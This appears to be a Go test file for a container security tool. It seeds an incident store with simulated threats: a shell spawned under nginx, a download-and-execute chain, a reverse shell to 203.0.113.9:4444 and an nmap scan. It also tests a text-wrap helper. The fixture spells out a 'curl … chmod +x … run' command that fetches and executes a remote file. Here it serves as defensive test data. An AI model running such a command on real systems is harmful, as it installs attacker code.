package main

import (
	"context"
	"log/slog"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/castellan-security/castellan/internal/adapter/db"
	"github.com/castellan-security/castellan/internal/event"
	"github.com/castellan-security/castellan/internal/finding"
	"github.com/castellan-security/castellan/internal/server/incidents"
	"github.com/castellan-security/castellan/internal/threat"
)

// attack stores what an agent would tell of an attack on a web server, and of a scan
// by another container, before a server runs: attack.
func attack(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 0 {
		ts.Fatalf("usage: attack")
	}
	ctx := context.Background()
	st, err := db.Open(ctx, db.Options{Path: databasePath(ts.Getenv("CASTELLAN_DATA_DIR"))}, slog.New(slog.DiscardHandler))
	ts.Check(err)
	s := incidents.New(incidents.Options{Store: st, Clock: time.Now, Log: slog.New(slog.DiscardHandler)})
	ts.Check(s.Take(ctx, "AGENTAAAAAAAA", attackThreats(time.Now().Add(-time.Minute))))
	ts.Check(st.Close())
}

// attackThreats are those of two incidents.
func attackThreats(at time.Time) []*threat.Threat {
	key := func(pid uint32) event.Key { return event.Key{PID: pid, Start: uint64(pid)} }
	nginx := threat.Ancestor{Key: key(1), Name: "nginx", Executable: "/usr/sbin/nginx"}
	line := []string{"sh", "-c", "curl -so /tmp/x http://198.51.100.7/x; chmod +x /tmp/x; /tmp/x"}
	sh := threat.Ancestor{Key: key(10), Name: "sh", Executable: "/bin/sh", Args: line}
	var out []*threat.Threat
	add := func(rule, title string, sev finding.Severity, tactic threat.Tactic, technique, summary string, p event.Process, root uint32, change func(*threat.Threat)) {
		when := at.Add(time.Duration(len(out)) * time.Second)
		t := &threat.Threat{
			Version: threat.Version, Rule: rule, Severity: sev, Tactic: tactic, Techniques: []string{technique}, Title: title, Summary: summary,
			First: when, Last: when, Count: 1, AgentID: "AGENTAAAAAAAA", WorkloadID: strings.Repeat("a1", 32), Group: "shop/web/nginx", Process: p, Root: key(root),
			Evidence: []threat.Evidence{{Boot: "BOOT", Seq: uint64(len(out) + 1), Time: when, Kind: event.KindExec, Words: "ran " + p.Executable}},
		}
		change(t)
		t.Print = threat.PrintOf(rule, t.AgentID, t.WorkloadID, t.Root)
		out = append(out, t)
	}
	add("shell-of-server", "A web server started a shell", finding.High, threat.InitialAccess, "T1190", strings.Join(line, " ")+" was run below nginx",
		event.Process{Key: key(10), Parent: key(1), Name: "sh", Executable: "/bin/sh"}, 10, func(t *threat.Threat) {
			t.Args, t.Ancestors = line, []threat.Ancestor{nginx}
		})
	dropped := event.Process{Key: key(12), Parent: key(10), Name: "x", Executable: "/tmp/x"}
	add("download-execute", "A file that was downloaded is executed", finding.High, threat.Execution, "T1105", "/tmp/x runs /tmp/x, which was downloaded",
		dropped, 10, func(t *threat.Threat) {
			t.Args, t.Files, t.Ancestors = []string{"/tmp/x"}, []string{"/tmp/x"}, []threat.Ancestor{sh, nginx}
		})
	add("shell-reverse", "A shell talks to a stranger", finding.High, threat.CommandAndControl, "T1071", "/tmp/x connected to 203.0.113.9:4444",
		dropped, 10, func(t *threat.Threat) {
			t.Args, t.Ancestors, t.Reaction, t.Count = []string{"/tmp/x"}, []threat.Ancestor{sh, nginx}, event.ReactionKilled, 3
			t.Peers = []threat.Peer{{Address: netip.MustParseAddrPort("203.0.113.9:4444"), Peer: event.Peer{Kind: event.PeerPublic}}}
		})
	add("scan-ports", "Many ports are tried", finding.Low, threat.Discovery, "T1046", "nmap tried 200 ports of 10.0.0.7",
		event.Process{Key: key(50), Name: "nmap", Executable: "/usr/bin/nmap"}, 50, func(t *threat.Threat) {
			t.WorkloadID, t.Group = strings.Repeat("b2", 32), "shop/jobs/report"
		})
	return out
}

func TestWrap(t *testing.T) {
	for _, tc := range []struct{ name, lead, indent, text, want string }{
		{"short", "  a ", "    ", "one two", "  a one two\n"},
		{"nothing", "x", " ", "", "x\n"},
		{"two lines", "> ", "  ", strings.Repeat("word ", 20), "> " + strings.Repeat("word ", 14) + "word\n  word word word word word\n"},
		{"a long word", "> ", "  ", strings.Repeat("ä", 100), "> " + strings.Repeat("ä", 78) + "\n  " + strings.Repeat("ä", 22) + "\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b strings.Builder
			if wrap(&b, tc.lead, tc.indent, tc.text); b.String() != tc.want {
				t.Errorf("got\n%s\nwant\n%s", b.String(), tc.want)
			}
		})
	}
}
